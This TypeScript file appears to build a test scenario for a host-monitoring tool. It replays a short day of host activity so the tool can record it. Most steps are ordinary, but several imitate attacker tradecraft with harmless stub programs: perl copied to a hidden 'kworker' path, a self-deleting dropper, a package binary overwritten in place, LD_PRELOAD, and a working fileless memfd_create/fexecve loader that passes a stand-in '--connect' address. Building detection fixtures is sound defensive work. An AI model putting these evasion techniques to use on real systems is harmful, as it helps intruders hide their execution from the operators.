/** What happens in the sample: a day of a small host in half a minute, with attacks and a package upgrade. */
import { createHash } from 'node:crypto';
import { chmodSync, chownSync, cpSync, mkdirSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { openPodman, servePodman, TOOL, whyNoContainers } from '../containers/podman-kit.ts';
import { run } from '../kernel/probe-kit.ts';
import { makeCgroups, makeFolder, openShell, type Shell } from './host-stage.ts';

export const FOLDER = '/tmp/bintrail-sample';
/** Programs larger than this are not hashed while recording, so that the sample has one. */
export const MAX_FILE_BYTES = 64 * 1024 * 1024;
export const DEPLOY_UID = 1000;
const PACKAGE = 'sample-agent';
const CONTAINER = createHash('sha256').update('the container of the sample').digest('hex');

const WORKLOADS = {
  deploy: { cgroup: `user.slice/user-${DEPLOY_UID}.slice/session-3.scope`, uid: DEPLOY_UID, folder: 'home' },
  cron: { cgroup: 'system.slice/cron.service', uid: 0, folder: '.' },
  upgrade: { cgroup: 'system.slice/apt-daily-upgrade.service', uid: 0, folder: '.' },
  container: { cgroup: `docker/${CONTAINER}`, uid: 0, folder: 'app' },
  till: { cgroup: 'system.slice/till.service', uid: 0, folder: '.' },
} as const;
type Workload = keyof typeof WORKLOADS;

const PODMAN_FOLDER = join(FOLDER, 'podman');
const PODMAN = [
  `CONTAINERS_CONF=${join(PODMAN_FOLDER, 'containers.conf')}`,
  `CONTAINERS_STORAGE_CONF=${join(PODMAN_FOLDER, 'storage.conf')} podman`,
].join(' ');
const IMAGE = 'till';
/** What the container runs: a script of its image, which drops a program and runs that. */
const TILL = `cp ${TOOL} /tmp/busybox-update\necho >> /tmp/busybox-update\nsleep 1\n/tmp/busybox-update true\n`;

/** The password is there to be redacted: it is nowhere in the sample. */
export const SECRET = 'hunter2-of-the-sample';

const STEPS: readonly (readonly [Workload, string])[] = [
  // Ordinary work, all of it from packages.
  ['deploy', 'id; uname -s; ls -l'],
  ['cron', `${PACKAGE} --once; date; df /tmp`],
  ['deploy', "perl -e 'print 6 * 7'"],
  // A script nobody approved, which runs packaged programs only.
  ['cron', `${FOLDER}/backup.sh`],
  // One that an interpreter opens by itself.
  ['deploy', 'sh tidy.sh'],
  // Built here a moment ago, by hand: nobody approved it. Its password stays out of every record.
  ['deploy', 'cc -O1 -o report report.c'],
  ['deploy', `./report --month 10 --db-password ${SECRET}`],
  ['deploy', './report --month 11'],
  ['container', './shop --port 8080'],
  // A library that its user brings along.
  ['deploy', 'cc -O1 -shared -fPIC -o libtrace.so trace.c; sleep 1; LD_PRELOAD=./libtrace.so id'],
  // An upgrade: the same path, other bytes, both explained by the package.
  ['upgrade', `dpkg --install ${FOLDER}/${PACKAGE}_1.1.0.deb`],
  ['cron', `${PACKAGE} --once`],
  // An interpreter under another name: the very bytes of the package, at a path that no package owns.
  ['deploy', 'mkdir -p .cache; cp /usr/bin/perl .cache/kworker'],
  ['deploy', "./.cache/kworker -e 'print 1'"],
  // Dropped, run, and gone before anyone could look.
  ['cron', 'cp tools/dropper /tmp/bintrail-sample/update; sleep 1; /tmp/bintrail-sample/update --now'],
  // A payload that never was a file, started by a program of the container.
  ['container', './shop --payload ../tools/payload'],
  // A real container, whose script drops a program and runs it.
  ['till', `${PODMAN} run --rm --name till localhost/bintrail-${IMAGE}:1 sh /srv/till.sh`],
  // A program too large to be hashed.
  ['cron', 'tools/bundle'],
  // A file of a package, overwritten in place.
  ['cron', `cp tools/implant /usr/sbin/${PACKAGE}; sleep 1; ${PACKAGE} --once`],
  ['deploy', 'ls; id'],
];

const PAUSE_MS = 1_000;

const MEMFD_SOURCE = `#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
int main(int c, char **v) {
  char buf[4096]; long n;
  if (c < 3 || strcmp(v[1], "--payload")) return 0;
  int in = open(v[2], O_RDONLY), fd = memfd_create("payload", MFD_CLOEXEC);
  while ((n = read(in, buf, sizeof buf)) > 0) if (write(fd, buf, n) != n) return 1;
  return fexecve(fd, (char *[]){ "payload", "--connect", "192.0.2.7:4444", 0 }, (char *[]){ 0 });
}
`;

const says = (text: string) => `#include <stdio.h>\nint main(void) { return puts("${text}") < 0; }\n`;

/** Sources by the file they become. */
const PROGRAMS: Record<string, string> = {
  'tools/dropper': '#include <unistd.h>\nint main(int c, char **v) { (void)c; return unlink(v[0]); }\n',
  'tools/payload': '#include <unistd.h>\nint main(void) { return sleep(2); }\n',
  'tools/bundle': says('a large bundle'),
  'tools/implant': says('not the agent'),
  'app/shop': MEMFD_SOURCE,
};

export type Scenario = {
  /** The shells everything starts from. */
  readonly rootPids: ReadonlySet<number>;
  /** Podman's API, which knows the container. */
  readonly podmanSocket: string;
  readonly play: () => Promise<void>;
  /** Takes everything back. */
  readonly cleanUp: () => Promise<void>;
};

type Undo = () => void | Promise<void>;

export async function prepareScenario(): Promise<Scenario> {
  if ((await run('dpkg', ['--status', PACKAGE]).catch(() => undefined)) !== undefined) {
    throw new Error(`a package ${PACKAGE} is installed here: record on a host without it`);
  }
  const why = whyNoContainers();
  if (why !== undefined) throw new Error(why);
  const undo: Undo[] = [];
  const cleanUp = async () => {
    for (let next = undo.pop(); next !== undefined; next = undo.pop()) await next();
  };
  try {
    undo.push(makeFolder(FOLDER));
    await buildFiles();
    const podmanSocket = await openContainers(undo);
    undo.push(async () => void (await run('dpkg', ['--purge', PACKAGE])));
    await run('dpkg', ['--install', join(FOLDER, `${PACKAGE}_1.0.0.deb`)]);
    undo.push(makeCgroups(Object.values(WORKLOADS).map(({ cgroup }) => cgroup)));
    const shells = new Map<Workload, Shell>();
    for (const [name, { cgroup, uid, folder }] of Object.entries(WORKLOADS)) {
      const shell = await openShell(cgroup, uid, join(FOLDER, folder));
      shells.set(name as Workload, shell);
      undo.push(shell.end);
    }
    const play = async () => {
      for (const [workload, commandLine] of STEPS) {
        await delay(PAUSE_MS);
        await shells.get(workload)!.run(commandLine);
      }
    };
    return { rootPids: new Set([...shells.values()].map(({ pid }) => pid)), podmanSocket, play, cleanUp };
  } catch (error) {
    await cleanUp();
    throw error;
  }
}

/** Podman with an image for the container; returns the socket of its API. */
async function openContainers(undo: Undo[]): Promise<string> {
  mkdirSync(PODMAN_FOLDER);
  const podman = await openPodman(PODMAN_FOLDER);
  undo.push(podman.close);
  await podman.importImage(IMAGE, '', (root) => {
    mkdirSync(join(root, 'srv'));
    writeFileSync(join(root, 'srv/till.sh'), TILL);
  });
  const { socket, close } = await servePodman(podman);
  undo.push(close);
  return socket;
}

async function buildFiles(): Promise<void> {
  for (const folder of ['home', 'tools', 'app']) mkdirSync(join(FOLDER, folder));
  for (const [path, source] of Object.entries(PROGRAMS)) await compile(join(FOLDER, path), source);
  truncateSync(join(FOLDER, 'tools/bundle'), MAX_FILE_BYTES + 1);
  writeFileSync(join(FOLDER, 'home/report.c'), says('a report'));
  writeFileSync(join(FOLDER, 'home/trace.c'), 'int traced;\n');
  writeFileSync(join(FOLDER, 'home/tidy.sh'), 'rm -f report.o; ls\n');
  chownSync(join(FOLDER, 'home'), DEPLOY_UID, DEPLOY_UID);
  writeFileSync(join(FOLDER, 'backup.sh'), `#!/bin/sh\ntar -C ${FOLDER} -cf - home | gzip > ${FOLDER}/home.tgz\n`);
  chmodSync(join(FOLDER, 'backup.sh'), 0o755);
  for (const version of ['1.0.0', '1.1.0']) await buildPackage(version);
}

async function compile(path: string, source: string): Promise<void> {
  writeFileSync(`${path}.c`, source);
  await run('cc', ['-O1', '-s', '-o', path, `${path}.c`]);
}

/** deb(5) with one program and its checksum, as debhelper would make it. */
async function buildPackage(version: string): Promise<void> {
  const root = join(FOLDER, `package-${version}`);
  mkdirSync(join(root, 'usr/sbin'), { recursive: true });
  mkdirSync(join(root, 'DEBIAN'));
  await compile(join(FOLDER, `agent-${version}`), says(`agent ${version}`));
  cpSync(join(FOLDER, `agent-${version}`), join(root, 'usr/sbin', PACKAGE));
  const { stdout: architecture } = await run('dpkg', ['--print-architecture']);
  const { stdout: checksum } = await run('md5sum', [`usr/sbin/${PACKAGE}`], { cwd: root });
  const about = `Package: ${PACKAGE}\nVersion: ${version}\nArchitecture: ${architecture.trim()}\n`;
  const people = 'Maintainer: Bintrail <sample@example.invalid>\nDescription: an agent that does nothing\n';
  writeFileSync(join(root, 'DEBIAN/control'), about + people);
  writeFileSync(join(root, 'DEBIAN/md5sums'), checksum);
  await run('dpkg-deb', ['--root-owner-group', '--build', root, join(FOLDER, `${PACKAGE}_${version}.deb`)]);
}
